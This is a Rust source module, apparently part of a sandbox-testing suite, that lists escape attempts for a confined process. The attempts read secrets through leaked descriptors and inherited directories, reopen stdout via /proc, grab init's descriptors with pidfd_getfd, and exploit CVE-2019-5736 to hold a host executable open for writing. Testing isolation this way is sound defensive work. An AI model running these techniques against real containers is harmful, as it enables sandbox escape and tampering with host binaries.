//! Descriptors and directories that the caller had, or passes on.

use std::fs;

use super::{Args, Attack, Attempt, Named as _, any_of, c, hold, say, show, spoil, steal, sys};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("leaked-fds", leaked),
    ("leaked-cwd", leaked_cwd),
    ("stdin-directory", stdin_directory),
    ("stdout-reopen", stdout_reopen),
    ("moved-cwd", moved_cwd),
    ("proc-exe", proc_exe),
    ("init-fds", init_fds),
];

const O_PATH: usize = 0o10_000_000;
const O_WRONLY: usize = 1;

fn read_at(dir: sys::Fd, path: &str) -> Attempt {
    let fd = sys::openat(dir, &c(path), 0, 0).named(format_args!("{dir}, {path}"))?;
    let mut bytes = [0; 4096];
    let got = sys::read(fd as sys::Fd, &mut bytes).named(path)?;
    let _ = sys::close(fd as sys::Fd);
    show(&bytes[..got]);
    Ok(format!("read {path} from descriptor {dir}"))
}

/// Whatever is open above the standard streams, it came from outside.
fn leaked(_: &Args) -> Attempt {
    let open = (3..1024).filter(|fd| sys::fcntl(*fd, 1, 0).is_ok());
    let attempts: Vec<_> = open
        .map(|fd| {
            any_of(
                [
                    "secret",
                    "../secret",
                    "../../../../../../../../etc/hostname",
                ]
                .map(|p| read_at(fd, p)),
            )
        })
        .collect();
    if attempts.is_empty() {
        return Err("nothing is open above 2".to_owned());
    }
    any_of(attempts)
}

/// The working directory, if it was inherited, is outside.
fn leaked_cwd(args: &Args) -> Attempt {
    let outside = args.get("outside").to_owned();
    any_of(
        [
            "secret",
            "./secret",
            "/proc/self/cwd/secret",
            "/proc/1/cwd/secret",
        ]
        .map(steal)
        .into_iter()
        .chain([steal(format!("../../../../../../../..{outside}/secret"))]),
    )
}

/// The standard input is a directory that was passed on purpose; its parent was not.
fn stdin_directory(_: &Args) -> Attempt {
    any_of([
        read_at(0, "../secret"),
        sys::fchdir(0)
            .named("fchdir")
            .and_then(|_| steal("../secret")),
        steal("/proc/self/fd/0/../secret"),
    ])
}

/// The standard output is a file that was passed for appending.
fn stdout_reopen(_: &Args) -> Attempt {
    any_of(
        [
            "/proc/self/fd/1",
            "/proc/thread-self/fd/1",
            "/dev/stdout",
            "/dev/fd/1",
        ]
        .map(|path| {
            let bytes = fs::read(path).named(path)?;
            // The output cannot be used to tell, because it is the file: it goes to standard error.
            let text = String::from_utf8_lossy(&bytes);
            let _ = sys::write(2, text.as_bytes());
            spoil(path)
        }),
    )
}

/// Stands in a directory that somebody outside moves out of what the sandbox shows.
fn moved_cwd(args: &Args) -> Attempt {
    let dir = args.work("moving");
    std::env::set_current_dir(&dir).named(&dir)?;
    let fd = sys::openat(sys::CWD, c".", O_PATH, 0).named("open")? as sys::Fd;
    say("ready");
    super::await_end_of_input();
    any_of([
        steal("../secret"),
        read_at(fd, "../secret"),
        steal("/proc/self/cwd/../secret"),
        steal(format!("/proc/self/fd/{fd}/../secret")),
    ])
}

/// Opens for writing what processes execute that are not of the root (CVE-2019-5736): through
/// a descriptor that is had first, so that it works once the program is not being run any more.
fn proc_exe(args: &Args) -> Attempt {
    const O_RDWR_TRIES: usize = 50;
    let rounds = args.number("rounds").max(1);
    let mut last = "no process".to_owned();
    for _ in 0..rounds {
        let entries = fs::read_dir("/proc").named("/proc")?;
        let pids = entries
            .flatten()
            .filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok())
            .filter(|pid| *pid == 1 || *pid == args.pid("init"));
        for pid in pids {
            let path = format!("/proc/{pid}/exe");
            let fd = match sys::openat(sys::CWD, &c(&path), O_PATH, 0) {
                Ok(fd) => fd as sys::Fd,
                Err(error) => {
                    last = format!("{path}: {error}");
                    continue;
                }
            };
            say("ready");
            let again = format!("/proc/self/fd/{fd}");
            for _ in 0..O_RDWR_TRIES {
                match sys::openat(sys::CWD, &c(&again), O_WRONLY, 0) {
                    Ok(fd) if !sealed(fd as sys::Fd) => {
                        hold();
                        return Ok(format!("holds {path} open for writing"));
                    }
                    Ok(_) => {
                        last = format!("{path} is sealed");
                        break;
                    }
                    Err(error) => last = format!("{again}: {error}"),
                }
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            let _ = sys::close(fd);
        }
    }
    Err(last)
}

/// Whether nothing can be written although the file can be opened (fcntl(2), `F_GET_SEALS`).
fn sealed(fd: sys::Fd) -> bool {
    const F_GET_SEALS: usize = 1034;
    const F_SEAL_WRITE: usize = 8;
    sys::fcntl(fd, F_GET_SEALS, 0).is_ok_and(|seals| seals & F_SEAL_WRITE != 0)
}

/// The descriptors of the first process: its control socket, and what set-up may have left.
/// Tried again and again, in case it closes them late.
fn init_fds(args: &Args) -> Attempt {
    let init = args.pid("init");
    let mut last = String::new();
    for _ in 0..args.number("rounds").max(1) {
        let pidfd = sys::pidfd_open(init).named("pidfd_open");
        for number in 0..16 {
            let path = format!("/proc/{init}/fd/{number}");
            match fs::read_link(&path) {
                Ok(target) => {
                    return Ok(format!("{path} leads to {}", target.display()));
                }
                Err(error) => last = format!("{path}: {error}"),
            }
            if let Ok(pidfd) = &pidfd {
                match sys::pidfd_getfd(*pidfd as sys::Fd, number) {
                    Ok(_) => {
                        hold();
                        return Ok(format!("took descriptor {number} of process {init}"));
                    }
                    Err(error) => last = format!("{last}; pidfd_getfd {number}: {error}"),
                }
            }
        }
        if let Ok(pidfd) = pidfd {
            let _ = sys::close(pidfd as sys::Fd);
        }
    }
    Err(last)
}
